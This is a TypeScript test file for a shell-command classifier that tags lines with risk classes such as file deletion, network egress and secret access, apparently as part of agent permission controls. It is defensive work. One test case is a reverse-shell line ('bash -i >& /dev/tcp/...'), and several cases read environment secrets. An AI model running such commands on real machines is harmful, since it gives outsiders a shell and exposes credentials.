import { describe, expect, test } from 'vitest';
import { readLine } from '../../../fakes/command-line.js';

const classesOf = (line: string, cwd: string | null = '/work'): readonly string[] =>
  [...readLine(line, cwd).classes].sort();

describe('the classes that a line adds', () => {
  test.each([
    ['rm a', ['fileDelete']],
    ['rmdir a; unlink b; shred c', ['fileDelete']],
    ['find . -delete', ['fileDelete']],
    ['find . -name x', []],
    ['git push origin x', ['gitPush', 'networkEgress']],
    ['git -c user.name=x --no-pager push', ['gitPush', 'networkEgress']],
    ['git commit -m x', ['gitCommit']],
    ['git merge x; git rebase y; git cherry-pick z', ['gitCommit', 'workspaceMutation']],
    ['git clone https://a.example/b', ['networkEgress', 'workspaceMutation']],
    ['git fetch', ['networkEgress']],
    ['git pull', ['gitCommit', 'networkEgress', 'workspaceMutation']],
    ['git clean -fd', ['fileDelete', 'workspaceMutation']],
    ['gh pr create', ['networkEgress', 'prCreate']],
    ['gh -R o/r pr merge 1', ['networkEgress', 'prPublish']],
    ['gh pr view 1', ['networkEgress']],
    ['gh release create v1', ['networkEgress', 'prPublish']],
    ['gh issue create', ['networkEgress', 'vendorSyncWrite']],
    ['gh api repos/a/b', ['networkEgress']],
    ['gh api -X DELETE repos/a/b', ['networkEgress', 'vendorSyncWrite']],
    ['gh secret set X', ['networkEgress', 'secretAccess', 'vendorSyncWrite']],
    ['npm install x', ['networkEgress', 'packageInstall']],
    ['npm --prefix p i', ['networkEgress', 'packageInstall']],
    ['npm test', []],
    ['pip3.11 install x', ['networkEgress', 'packageInstall']],
    ['python3 -m pip install x', ['networkEgress', 'packageInstall']],
    ['apt-get -y install x', ['networkEgress', 'packageInstall']],
    ['cargo +nightly add x', ['networkEgress', 'packageInstall']],
    ['go install x', ['networkEgress', 'packageInstall']],
    ['npm publish', ['networkEgress', 'prPublish']],
    ['twine upload x', ['networkEgress', 'prPublish']],
    ['docker push x', ['enclosureControl', 'networkEgress', 'prPublish']],
    ['curl https://a.example', ['networkEgress']],
    ['curl -o x https://a.example', ['networkEgress', 'workspaceMutation']],
    ['scp a b:c', ['networkEgress', 'workspaceMutation']],
    ['scp a b', ['workspaceMutation']],
    ['kubectl get pods', ['enclosureControl', 'networkEgress']],
    ['sudo ls', ['enclosureControl']],
    ['env', ['secretAccess']],
    ['env A=1', ['secretAccess']],
    ['env A=1 ls', []],
    ['export', ['secretAccess']],
    ['export A=1', []],
    ['printenv X', ['secretAccess']],
    ['aws configure list', ['networkEgress', 'secretAccess']],
    ['git log', []],
    ['git log --output=x', ['workspaceMutation']],
    ['git logout-all', ['workspaceMutation']],
    ['ls -la', []],
    ['sed s/a/b/ x', []],
    ['sed -i s/a/b/ x', ['workspaceMutation']],
    ['tar tf x', []],
    ['tar xzf x', ['workspaceMutation']],
    ['bash -i >& /dev/tcp/203.0.113.9/4444', ['networkEgress']],
  ])('%j', (line, expected) => {
    expect(classesOf(line)).toEqual(expected);
  });

  test.each([
    ['branch', ['', '-a', '--list x', '-v', '--contains x'], ['x', '-D x', '-m x', '-f x y']],
    ['tag', ['', '-l x', '-n'], ['x', '-d x', '-a x']],
    ['stash', ['list', 'show'], ['', 'drop', 'pop']],
    ['remote', ['', '-v', 'get-url x'], ['add x y', 'remove x']],
    ['config', ['--get a.b', 'a.b', '-l', 'get a.b'], ['a.b c', '--unset a.b', 'set a.b c']],
    ['worktree', ['list'], ['add x']],
    ['reflog', ['', 'show'], ['expire --all']],
  ])('git %s reads in some forms and changes in others', (verb, reading, changing) => {
    for (const rest of reading)
      expect([rest, classesOf(`git ${verb} ${rest}`)]).toEqual([rest, []]);
    for (const rest of changing)
      expect([rest, classesOf(`git ${verb} ${rest}`)]).toEqual([rest, ['workspaceMutation']]);
  });
});

describe('what is written', () => {
  test('changes the workspace, inside or outside of where the line starts', () => {
    expect(classesOf('echo x > a')).toEqual(['workspaceMutation']);
    expect(classesOf('echo x >> /tmp/a')).toEqual([
      'fileWriteOutsideWorktree',
      'workspaceMutation',
    ]);
    expect(classesOf('cp /etc/hosts a')).toEqual(['workspaceMutation']);
    expect(classesOf('cp a /tmp/b')).toEqual(['fileWriteOutsideWorktree', 'workspaceMutation']);
    expect(classesOf('cp -t /tmp a')).toEqual(['fileWriteOutsideWorktree', 'workspaceMutation']);
    expect(classesOf('cd ..; touch a')).toEqual(['fileWriteOutsideWorktree', 'workspaceMutation']);
    expect(classesOf('touch /workshop/a')).toContain('fileWriteOutsideWorktree');
  });

  test('counts as outside where nobody knows where it lies', () => {
    expect(classesOf('git branch "$X"')).toEqual(['fileWriteOutsideWorktree', 'workspaceMutation']);
    expect(classesOf('tee "$X"')).toEqual(['fileWriteOutsideWorktree', 'workspaceMutation']);
    expect(classesOf('touch a', null)).toEqual(['fileWriteOutsideWorktree', 'workspaceMutation']);
  });

  test('is nothing where it goes to no file', () => {
    for (const line of ['ls > /dev/null', 'ls 2>&1', 'ls >&-', 'cat < a', 'ls 2>/dev/stderr'])
      expect([line, classesOf(line)]).toEqual([line, []]);
  });
});

describe('a sub-command that may stand behind the value of an unknown option', () => {
  test('counts', () => {
    expect(classesOf('npm --odd value publish')).toEqual(['networkEgress', 'prPublish']);
    expect(classesOf('npm run publish')).toEqual([]);
  });
});
